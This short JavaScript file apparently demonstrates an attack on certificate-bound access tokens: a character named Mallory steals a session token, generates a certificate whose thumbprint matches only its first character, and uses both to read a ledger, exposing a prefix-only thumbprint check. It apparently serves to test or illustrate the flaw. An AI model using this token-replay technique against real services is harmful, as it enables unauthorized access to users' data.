// Mallory cannot make a certificate with the app's thumbprint. One that begins like it, she can.
import { grind } from './grind.js';
import { ownCertificate, readLedger, stealSession } from './tools.js';

const { token, cnf } = await stealSession();
const wanted = cnf?.['x5t#S256'] ?? '';
const { cert, key } = grind(ownCertificate, wanted.slice(0, 1));
console.log(
  wanted
    ? 'a certificate whose thumbprint begins with the right character'
    : 'the token names no certificate',
);
await readLedger(token, { cert, key });
